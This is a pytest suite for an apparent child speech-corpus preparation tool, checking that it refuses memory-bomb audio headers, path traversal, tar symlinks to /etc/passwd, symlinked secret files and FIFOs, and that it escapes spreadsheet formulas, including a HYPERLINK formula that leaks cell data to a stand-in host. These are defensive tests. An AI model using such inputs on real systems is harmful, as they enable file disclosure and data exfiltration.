"""A corpus from strangers: nothing outside is read, no header is believed."""

import csv
import os
import resource
import shutil

import corpora
import malicious
import numpy as np
import other_corpora
import pytest
import soundfile
from hypothesis import given
from hypothesis import strategies as st
from kills import fork
from small_manifests import COLUMNS

from childasr.audio import durations, read_audio
from childasr.errors import InputError
from childasr.manifest import Manifest
from childasr.text.normalise import Normaliser, UnresolvableText
from childasr.text.spreadsheet import GUARDED, guard
from data_prep.prepare import prepare
from data_prep.records import File
from data_prep.samples import inspect_recording
from data_prep.tree import Problem, members


@pytest.fixture
def root(tmp_path):
    return tmp_path / "corpus"


@pytest.mark.parametrize(
    ("header", "reason"),
    [
        ({}, "audio_long"),
        ({"channels": 1, "rate": 16_000}, "audio_long"),
        ({"rate": 15_999, "samples": 16_000}, "audio_rate"),
        ({"rate": 2**20 - 1, "samples": 16_000}, "audio_rate"),
    ],
)
def test_a_header_takes_no_memory(header, reason, tmp_path):
    path, console = tmp_path / "a.flac", tmp_path / "console"
    path.write_bytes(malicious.flac_bomb(**header))

    def refused():
        before = most_memory()
        assert inspect_recording(str(path), snr=True)["reason"] == reason
        for read in (read_audio, lambda path: durations([path])):
            with pytest.raises(InputError, match="too much to hold in memory"):
                read(str(path))
        grown = most_memory() - before
        assert grown < 64 * 1024, f"{grown} KiB"
        return 0

    # Of this process the most may be that of an earlier test.
    assert fork(refused, console)[0] == 0, console.read_text()


def most_memory():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss


def test_what_preparation_accepts_can_be_read(tmp_path):
    path = tmp_path / "a.flac"
    samples = np.zeros((96_000 * 120, 8), np.int16)
    soundfile.write(path, samples, 96_000)
    assert "reason" not in inspect_recording(str(path), samples=False)
    assert durations([path]) == [120]


@pytest.mark.parametrize(
    "name", ["pipe.wav", "a.raw", "a\0b.wav", "", "x" * 999]
)
def test_a_recording_that_is_no_file_is_named(name, tmp_path):
    os.mkfifo(tmp_path / "pipe.wav")
    (tmp_path / "a.raw").write_bytes(bytes(100))
    for read in (read_audio, lambda path: durations([path])):
        with pytest.raises(InputError, match="cannot read"):
            read(str(tmp_path / name))


@pytest.mark.parametrize(
    "wav", ["$data_root/../a.wav", "..", "/data/x/../../a.wav"]
)
def test_a_manifest_does_not_leave_its_root(wav, tmp_path):
    path = tmp_path / "m.csv"
    path.write_text(f"{COLUMNS}\nu1,1,{wav},s,,,,,\n")
    with pytest.raises(InputError, match=r"line 2: the path .* leaves"):
        Manifest(path, tmp_path)


TAR_MEMBERS = [
    ("../../a.wav", b"x", {}),
    ("/etc/a.wav", b"x", {}),
    ("a/../../b.wav", b"x", {}),
    ("c.wav", b"", {"type": b"2", "linkname": "/etc/passwd"}),
    ("d.wav", b"", {"type": b"1", "linkname": "e.wav"}),
    ("f.wav", b"", {"type": b"3", "devmajor": 1, "devminor": 5}),
    ("g.wav", b"", {"type": b"6"}),
]


@pytest.mark.parametrize(
    "member", TAR_MEMBERS, ids=[name for name, *_ in TAR_MEMBERS]
)
def test_a_member_that_is_no_plain_file_below_is_not_read(member, tmp_path):
    data = malicious.tar_of([member])
    (tmp_path / "a.tar").write_bytes(data)
    archive = File("a.tar", "a.tar", len(data), 0)
    (found,) = members(tmp_path, archive)
    assert isinstance(found, Problem)
    assert found.reason in ("path_outside_root", "audio_unreadable")


def write_secret(root):
    secret = root.parent / "secret.csv"
    secret.write_text("wav,speaker,text\ns3cret.wav,s3cret,s3cret\n")
    return secret


def link_table(root, clips):
    other_corpora.write_table(root, clips)
    (table,) = root.glob("*.csv")
    table.unlink()
    table.symlink_to(write_secret(root))


def link_metadata(root, clips):
    corpora.write_corpus(root, clips)
    table = root / "subset_metadata_with_test.csv"
    table.unlink()
    table.symlink_to(write_secret(root))


def link_list(root, clips):
    other_corpora.write_kaldi(root, clips, by_split=False)
    text = root / "text"
    text.rename(root.parent / "text")
    text.symlink_to(root.parent / "text")


def link_folder_of_lists(root, clips):
    other_corpora.write_kaldi(root, clips, by_split=True)
    folder = next(path for path in root.iterdir() if (path / "text").exists())
    shutil.move(folder, root.parent / "elsewhere")
    folder.symlink_to(root.parent / "elsewhere")


def pipe_for_a_table(root, clips):
    corpora.write_corpus(root, clips)
    table = root / "subset_metadata_with_test.csv"
    table.unlink()
    os.mkfifo(table)


@pytest.mark.parametrize(
    "plant",
    [
        link_table,
        link_metadata,
        link_list,
        link_folder_of_lists,
        pipe_for_a_table,
    ],
)
def test_a_list_that_leads_out_or_never_ends_is_not_read(plant, root, tmp_path):
    plant(root, corpora.make_clips())
    refusal = "is a link out of|no plain file"
    with pytest.raises(InputError, match=refusal) as error:
        prepare(root, tmp_path / "M", progress=False)
    assert "s3cret" not in str(error.value)


FORMULA = '=HYPERLINK("http://x/?"&A1)'


def test_a_spreadsheet_runs_nothing_of_a_corpus(root, tmp_path):
    clips = corpora.make_clips()
    corpora.write_corpus(root, clips)
    rows = [clip.row() for clip in clips]
    for row in rows[:4]:  # all of one speaker
        row["speaker_id"] = "@SUM(1+1)"
    rows[8]["text"] = FORMULA
    rows[9]["wav_path"] = "-2+3.wav"
    for name in ("원천데이터", "라벨링데이터"):
        path = root / clips[10].path(
            name, ".wav" if name[0] == "원" else ".json"
        )
        path.rename(path.with_name(f"=1+1{path.suffix}"))
    rows[10]["wav_path"] = "=1+1.wav"
    corpora.write_metadata(root, rows)
    checks = {"speaker_keys": ("column",)}
    prepare(
        root,
        tmp_path / "M",
        max_reject_share=0.5,
        progress=False,
        checks=checks,
    )
    cells = {
        cell
        for path in (tmp_path / "M").glob("*.csv")
        for row in csv.reader(path.open(encoding="utf-8", newline=""))
        for cell in row
    }
    assert {"'@SUM(1+1)", "'-2+3.wav"} <= cells
    harmless = tuple(set(GUARDED) - {"'"})
    assert not [cell for cell in cells if cell.startswith(harmless)]


@given(st.text(min_size=1))
def test_the_guard_changes_no_sound(text):
    def said(text):
        try:
            return Normaliser()(text)
        except UnresolvableText as error:
            return error.reason

    assert said(guard(text)) == said(text)
